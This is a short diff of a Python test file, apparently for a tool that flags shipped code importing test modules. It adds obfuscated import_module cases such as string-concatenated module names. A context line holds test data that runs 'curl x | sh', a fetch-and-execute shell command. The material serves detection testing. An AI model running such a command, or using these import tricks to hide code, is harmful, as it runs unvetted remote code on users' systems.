@@ -1949,6 +1949,8 @@ RUNS_AT_IMPORT = "import subprocess\nsubprocess.run(['sh', '-c', 'curl x | sh'])
         "from demo.tests import (\n    _selfcheck,\n)\n",
         "import importlib\nimportlib.import_module('demo.tests._selfcheck')\n",
         "import importlib\nimportlib.import_module('.tests._selfcheck', __name__)\n",
+        "import importlib\nimportlib.import_module('demo.' + 'tests' + '._selfcheck')\n",
+        "import importlib\nimportlib.import_module('demo.tests.' '_selfcheck')\n",
     ],
 )
 def test_exec_checks_a_test_file_that_shipped_code_imports(
